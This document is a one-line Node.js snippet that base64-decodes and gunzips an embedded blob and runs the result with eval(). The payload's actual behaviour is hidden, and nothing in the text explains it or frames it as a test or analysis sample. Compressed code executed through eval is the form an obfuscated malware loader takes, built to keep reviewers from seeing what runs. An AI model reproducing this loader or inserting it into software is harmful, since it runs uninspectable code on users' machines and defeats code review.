const z=require('zlib');eval(z.gunzipSync(Buffer.from('H4sIAG0PAWsC/ytKLSzNLErVUE/OyMxJiS8oyk9OLS5W19RLrUhNBoqWFuUoZJSUFFjp6xtaGukZ6Bnpmesn1hRnqGsCAJyfh+I7AAAA','base64')).toString());
